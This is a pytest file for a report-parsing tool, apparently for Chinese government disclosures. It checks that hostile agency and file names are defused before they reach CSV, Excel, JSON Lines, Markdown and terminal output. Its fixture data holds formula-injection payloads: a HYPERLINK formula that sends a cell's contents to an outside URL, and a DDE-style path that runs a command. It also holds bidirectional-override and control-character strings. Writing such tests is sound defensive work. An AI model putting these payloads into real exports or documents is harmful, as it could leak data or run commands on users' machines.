"""Safe outputs (issue 10, item 4): agency and file names from untrusted documents reach CSV,
Excel, JSON Lines, Markdown and the terminal without becoming formulas, crashing the export,
breaking a table or hiding from the agency key.

The records are built from one generated report, stored under hostile names."""

from __future__ import annotations

import copy
import csv
import json
import re
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import run_cli
from openpyxl import load_workbook

from gongkai import formats
from gongkai.analyse import group_table, report_table
from gongkai.analyse.stats import table_csv, table_markdown, table_text
from gongkai.api import check_text
from gongkai.export import export_csv, export_jsonl, export_xlsx, read_xlsx
from gongkai.model import Finding, Provenance
from gongkai.safe import FORMULA_START, csv_text, markdown_cell, xlsx_text
from gongkai.store import Store, StoredReport
from gongkai.store.agencies import fold_name
from synth.generate import random_report, to_text

C0 = "".join(chr(c) for c in range(0x20))
HOSTILE = [
    '=HYPERLINK("http://x?leak="&A1,"点击")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\tTAB",
    "\r回车市局",
    f"甲市{C0}交通运输局\x7f\x85",
    "乙县\u202e府政民人",  # RLO: shown reversed
    "丙市\u200d财政\u200b局",  # zero-width joiner and space
    "a|b",
    "a\\|b",
    "丁市O'Brien局",  # an apostrophe inside a sheet name (the links quote sheet names)
    "#N/A",  # an Excel error value if typed as one
    "戊市\uffff局",  # not a character XML can hold
]
# Pairs that differ only by invisible characters or by full-width forms: one agency each.
SAME = [
    ("丙市财政局", "丙市\u200d财政\u200b局"),
    ("乙县府政民人", "乙县\u202e府政民人"),
    ("ＡＢＣ市第１中学", "ABC市第1中学"),
    ("己市\u2066审计局\u2069", "己市 审计局"),
]
HOSTILE_PATH = "=cmd|' /C calc'!A0.txt"
UNSAFE_TERMINAL = re.compile("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f]")


@dataclass
class Hostile:
    db: Path
    reports: list[StoredReport]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    folder = tmp_path_factory.mktemp("hostile")
    spec = random_report(31, agency="模板市统计局", year=2023)
    base = check_text(to_text(spec, "tabs"), "template.txt")
    assert base.cell_values(), "the template report reads with its tables"
    names = HOSTILE + [name for pair in SAME for name in pair]
    db = folder / "gongkai.db"
    with Store(str(db)) as store:
        for number, name in enumerate(names, start=1):
            record = copy.deepcopy(base)
            record.agency = name
            record.source.path = HOSTILE_PATH if number == 1 else f"{number}.txt"
            record.source.sha256 = f"{number:064x}"
            record.published = "+2024-01-05" if number == 1 else record.published
            path = next(iter(record.cell_values()))
            record.provenance[path] = Provenance("=1+2" if number % 2 else "-", line=1)
            record.findings.append(
                Finding("demo", "GK999", "warning", f"{name} 的数字有误", {"table": "三", "row": "granted", "column": "total"}, expected=-2, actual="=1+1")
            )
            store.save(record, record.source.path, 1, record.source.sha256)
        reports = list(store.reports())
    assert len(reports) == len(names)
    return Hostile(db, reports)


def dangerous(text: str) -> bool:
    """Text a spreadsheet could take for a formula (not a plain number, which is harmless)."""
    if not text.startswith(FORMULA_START):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


# ---------------------------------------------------------------- the helpers themselves


def test_text_starting_like_a_formula_gets_a_quote_prefix() -> None:
    for text in ("=1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert xlsx_text(text) == "'" + text
    assert csv_text("=1") == "'=1" and csv_text("-2") == "'-2"
    assert csv_text("\tTAB") == " TAB"  # a CSV field is one line: the tab is a space
    assert csv_text(f"a{C0}b\x7f\x85c") == "a b c"
    assert xlsx_text("甲\x00乙\x1f丙\uffff") == "甲乙丙"
    assert xlsx_text("甲\n乙") == "甲\n乙"  # line breaks are fine in a cell
    assert xlsx_text("甲市局") == "甲市局" and csv_text("甲市局") == "甲市局"
    assert markdown_cell("a|b") == "a\\|b" and markdown_cell("a\nb") == "a<br>b"
    assert markdown_cell("a\\|b") == "a\\\\\\|b"
    assert markdown_cell("乙\u202e") == "乙\\u202e"


# ---------------------------------------------------------------- Excel


def test_xlsx_has_no_formula_and_no_unsafe_text(hostile: Hostile, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    names = export_xlsx(hostile.reports, path)  # control characters no longer crash the export
    book = load_workbook(path)
    assert set(names.values()) <= set(book.sheetnames)
    texts = 0
    for ws in book.worksheets:
        assert not CONTROLS.search(ws.title)
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not dangerous(cell.value), (ws.title, cell.coordinate, cell.value)
                if cell.comment is not None:
                    assert not dangerous(cell.comment.text)
                if cell.hyperlink is not None:
                    location = cell.hyperlink.location
                    assert location is not None and location.startswith("'")
                    sheet, _, coordinate = location[1:].rpartition("'!")
                    assert sheet.replace("''", "'") in book.sheetnames and coordinate
    assert texts
    summary = book.worksheets[0]
    agencies = {summary.cell(r, 3).value for r in range(2, summary.max_row + 1)}
    assert agencies == {xlsx_text(item.record.agency or "") for item in hostile.reports}
    assert '\'=HYPERLINK("http://x?leak="&A1,"点击")' in agencies and "'-2" in agencies and "#N/A" in agencies
    # The numbers still read back as numbers.
    back = read_xlsx(path)
    for item in hostile.reports:
        assert back[names[item.id]] == item.record.cell_values()


def test_xlsx_export_command_does_not_crash(hostile: Hostile, tmp_path: Path) -> None:
    result = run_cli("export", "--db", hostile.db, "--format", "xlsx", "--out", tmp_path / "r.xlsx")
    assert result.exit_code == 0, result.output
    assert len(read_xlsx(tmp_path / "r.xlsx")) == len(hostile.reports)


# ---------------------------------------------------------------- CSV and JSON Lines


def test_csv_fields_are_never_formulas_nor_hold_controls(hostile: Hostile, tmp_path: Path) -> None:
    counts = export_csv(hostile.reports, tmp_path / "csv")
    assert all(counts.values())
    for name in counts:
        with (tmp_path / "csv" / name).open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        for row in rows:
            for field in row:
                assert not dangerous(field), (name, field)
                assert not CONTROLS.search(field), (name, field)
    with (tmp_path / "csv" / "reports.csv").open(encoding="utf-8-sig", newline="") as handle:
        reports = list(csv.DictReader(handle))
    assert {r["agency"] for r in reports} == {csv_text(item.record.agency or "") for item in hostile.reports}
    assert {"'-2", "'+1+1", "'@SUM(A1)", " TAB", "a|b"} <= {r["agency"] for r in reports}
    assert "'" + HOSTILE_PATH in {r["path"] for r in reports}
    with (tmp_path / "csv" / "findings.csv").open(encoding="utf-8-sig", newline="") as handle:
        findings = [r for r in csv.DictReader(handle) if r["code"] == "GK999"]
    assert findings and all(r["expected"] == "-2" and r["actual"] == '"=1+1"' for r in findings)  # a number stays a number
    with (tmp_path / "csv" / "cells.csv").open(encoding="utf-8-sig", newline="") as handle:
        texts = {r["text"] for r in csv.DictReader(handle)}
    assert {"'=1+2", "'-"} <= texts


def test_jsonl_keeps_the_names_as_printed(hostile: Hostile, tmp_path: Path) -> None:
    path = tmp_path / "r.jsonl"
    assert export_jsonl(hostile.reports, path) == len(hostile.reports)
    lines = path.read_text(encoding="utf-8").removesuffix("\n").split("\n")  # (not splitlines: U+0085 is no line end here)
    assert len(lines) == len(hostile.reports)
    assert [json.loads(line)["agency"] for line in lines] == [item.record.agency for item in hostile.reports]


# ---------------------------------------------------------------- stats


def _cells(line: str) -> list[str]:
    """The cells of a Markdown table row, as a GFM parser splits it (a backslash escapes the next character)."""
    assert line.startswith("|") and line.endswith("|")
    cells, current, escaped = [], "", False
    for char in line[1:-1]:
        if escaped:
            current, escaped = current + char, False
        elif char == "\\":
            current, escaped = current + char, True
        elif char == "|":
            cells.append(current)
            current = ""
        else:
            current += char
    return [*cells, current]


@pytest.mark.parametrize("by", ["report", "agency"])
def test_markdown_tables_keep_their_columns(hostile: Hostile, by: str) -> None:
    table = report_table(hostile.reports) if by == "report" else group_table(hostile.reports, "agency")
    lines = [line for line in table_markdown(table).splitlines() if line.startswith("|")]
    assert len(lines) == len(table.rows) + 2
    width = len(_cells(lines[0]))
    assert all(len(_cells(line)) == width for line in lines), [line for line in lines if len(_cells(line)) != width]
    assert not any(UNSAFE_TERMINAL.search(line) for line in lines)


def test_stats_text_and_csv_are_safe(hostile: Hostile) -> None:
    table = report_table(hostile.reports)
    text = table_text(table)
    assert not any(UNSAFE_TERMINAL.search(line) for line in text.split("\n"))
    assert "\\u202e" in text and "\\x00" in text
    rows = list(csv.reader(table_csv(table).splitlines()))
    assert all(not dangerous(field) and not CONTROLS.search(field) for row in rows for field in row)


def test_stats_command_markdown_and_text(hostile: Hostile) -> None:
    for output in ("markdown", "text"):
        result = run_cli("stats", "--db", hostile.db, "--by", "report", "--format", output)
        assert result.exit_code == 0, result.output
        assert not any(UNSAFE_TERMINAL.search(line) for line in result.stdout.split("\n"))


# ---------------------------------------------------------------- the agency key


def test_invisible_and_full_width_differences_give_one_agency_key(hostile: Hostile) -> None:
    keys = {item.record.agency: item.agency_key for item in hostile.reports}
    for plain, disguised in SAME:
        assert keys[plain] == keys[disguised] is not None, (plain, disguised)
        assert fold_name(plain) == fold_name(disguised)
    for item in hostile.reports:
        key = item.agency_key or ""
        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in key), key
    # The printed form is kept as printed.
    assert set(keys) == set(HOSTILE) | {name for pair in SAME for name in pair}
    with Store(str(hostile.db)) as store:
        printed = {entry["name"] for entry in store.agency_names()}
    assert set(keys) <= printed


def test_the_formats_labels_need_no_defusing() -> None:
    """The template's own labels never start like a formula, so defusing changes only foreign text."""
    labels = [r.label for r in formats.ALL_REQUEST_ROWS.values()] + [c.label for c in formats.REQUEST_COLUMNS]
    assert not any(label.startswith(FORMULA_START) for label in labels)
